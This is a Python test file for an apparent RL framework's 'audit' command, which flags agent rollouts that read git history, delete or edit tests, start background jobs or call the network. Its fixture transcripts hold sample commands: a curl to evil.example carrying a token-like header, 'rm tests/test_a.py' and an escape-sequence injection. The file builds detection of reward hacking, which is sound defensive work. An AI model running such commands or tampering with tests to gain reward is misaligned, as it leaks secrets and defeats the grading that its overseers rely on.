"""`longrein audit` over a record that the gateway's store wrote, while it is written and after."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from longrein import cli
from longrein.audit import command
from longrein.records import (
    Attempt,
    EndAttempt,
    Event,
    Outcome,
    Rollout,
    RolloutState,
    StatusChange,
)
from longrein.report import write_report
from longrein.store import Store

from .transcripts import Json, attempt, bash, said


async def add(
    store: Store, name: str, step: int, turns: list[Json], reward: float | None, *, ended: bool = True, **data: Any
) -> None:
    """A rollout of a step with one attempt."""
    await store.add_rollouts([Rollout(name, {}, metadata={"phase": "train", "start": 0, "step": step}, group_id="g")])
    started, one = await store.start_attempt(name, name.encode())
    assert isinstance(one, Attempt)
    for call in attempt(turns, rollout=started.rollout_id, attempt_id=one.attempt_id):
        await store.add_call(call)
    if reward is not None:
        await store.add_event(Event("reward", name, one.attempt_id, 1.0, {"value": reward, **data}))
    if ended:
        await store.end_attempt(name, one.attempt_id, EndAttempt(Outcome.succeeded))
        await store.change_rollout(name, StatusChange(state=RolloutState.succeeded))


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    run = tmp_path / "runs" / "one"
    run.mkdir(parents=True)
    (run / "metrics.jsonl").write_text('{"kind": "begin", "step": 0}\n')
    (run / "config.toml").write_text("[audit]\ndisable = ['tests-edited']\n")
    return run


def opened(folder: Path) -> Store:
    return Store.open(f"sqlite:///{folder / 'store.sqlite'}")


async def test_a_run_that_goes_on_is_audited(
    folder: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(command, "_PAGE", 2)
    store = opened(folder)
    try:
        for step in range(1, 5):
            await add(store, f"honest-{step}", step, [bash("ls")], 0.0)
        await add(store, "h1", 3, [bash("git log --all"), said("x")], 1.0)
        await add(
            store,
            "h2",
            4,
            [bash("git log --all"), bash("curl https://evil.example -H 'a: lr-at-" + "x" * 40 + "'")],
            0.0,
            graded=1.0,
        )
        await add(store, "h3", 4, [bash("git reflog '\x1b[2J'")], None, ended=False)
        status = cli.main(["audit", str(folder)])  # the store is open for writing all the while
    finally:
        store.close()
    printed = capsys.readouterr().out
    assert status == 1
    assert "7 attempts of 7 rollouts" in printed
    row = next(line for line in printed.splitlines() if "git-history" in line)
    cells = [cell.strip() for cell in row.replace("┃", "│").split("│") if cell.strip()]
    assert cells == ["git-history", "high", "3", "3", "100.0 %", "3-4", "0.0 %", "60.0 %"]
    assert "h1 attempt 0 call 0 command: git log --all" in printed
    assert "h3 attempt 0 call 0 command: git reflog \\x1b[2J" in printed
    assert "\x1b" not in printed
    assert "lr-at-x" not in printed
    assert "Reaches out by a command" in printed


async def test_jsonl_has_a_line_for_each_finding_and_can_be_narrowed(
    folder: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    store = opened(folder)
    await add(store, "a", 1, [bash("git log --all; nohup x"), bash("rm tests/test_a.py")], 0.5)
    await add(store, "b", 1, [bash("git log --all")], 0.5)
    store.close()

    def lines(*options: str) -> tuple[int, list[Json]]:
        status = cli.main(["audit", str(folder), "--format", "jsonl", *options])
        return status, [json.loads(line) for line in capsys.readouterr().out.splitlines()]

    status, found = lines()
    assert status == 1
    assert [(line["rollout"], line["rule"]) for line in found] == [
        ("a", "git-history"),
        ("a", "tests-deleted"),
        ("a", "background"),
        ("b", "git-history"),
    ]
    assert found[0] == {
        "rule": "git-history",
        "severity": "high",
        "rollout": "a",
        "attempt": "0",
        "group": "g",
        "step": 1,
        "reward": 0.5,
        "count": 1,
        "flags": [{"call": 0, "place": "command", "excerpt": "git log --all"}],
    }
    assert {line["rule"] for line in lines("--min-severity", "high")[1]} == {"git-history", "tests-deleted"}
    assert [line["rule"] for line in lines("--rule", "background", "--rule", "network")[1]] == ["background"]
    assert [line["rule"] for line in lines("--rollout", "b")[1]] == ["git-history"]
    assert lines("--rule", "network") == (0, [])


async def test_status_and_words_where_there_is_nothing_or_no_run(
    folder: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    store = opened(folder)
    await add(store, "a", 1, [bash("ls; echo x > tests/test_a.py")], 0.5)  # of a rule that the run disables
    store.close()
    assert cli.main(["audit", str(folder)]) == 0
    assert "1 attempt of 1 rollout: nothing found" in capsys.readouterr().out
    for arguments, message in (
        ([str(folder), "--rule", "netwrok"], "there is no rule 'netwrok'"),
        ([str(folder), "--rollout", "z"], "the record has no rollout z"),
        ([str(folder.parent)], "holds no run"),
        ([str(folder / "none")], "no such run folder"),
    ):
        assert cli.main(["audit", *arguments]) == 2
        assert message in capsys.readouterr().err
    (folder / "store.sqlite").write_bytes(b"no database" * 100)
    assert cli.main(["audit", str(folder)]) == 2


def test_training_with_rules_that_cannot_be_used_does_not_begin(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "tasks.jsonl").write_text('{"a": 1}\n')
    file = tmp_path / "run.toml"
    file.write_text(
        f"[run]\ndir = '{tmp_path}/runs'\n[model]\npath = './model'\n[agent]\ncommand = ['true']\n"
        "[task]\ntrain = 'tasks.jsonl'\nheld_out = 'tasks.jsonl'\n[reward]\nfunction = 'grader:grade'\n"
        "[audit]\nactions = {netwrok = 'zero'}\n"
    )
    assert cli.main(["train", str(file)]) == 2
    assert "longrein: audit.actions: there is no rule 'netwrok'; there are " in capsys.readouterr().err
    assert not (tmp_path / "runs").exists()


async def test_a_record_without_a_run_file_is_audited_by_the_defaults(folder: Path) -> None:
    store = opened(folder)
    await add(store, "a", 1, [bash("echo x > tests/test_a.py")], 0.5)
    store.close()
    (folder / "config.toml").unlink()
    assert cli.main(["audit", str(folder)]) == 1


async def test_the_report_shows_flags_by_rule(folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
    store = opened(folder)
    for name in ("a", "b"):
        await add(store, name, 1, [bash("git log --all")], 0.5)
        data = {"rule": "git-history", "severity": "high", "action": "report", "count": 1, "flags": []}
        for _ in range(2):  # one that was posted again after an answer was lost
            await store.add_event(Event("audit", name, "0", 2.0, data))
    store.close()
    write_report(folder)
    assert "Audit: flags by rule" in capsys.readouterr().out
    assert "| git-history | high | report | 2 |" in (folder / "report.md").read_text()
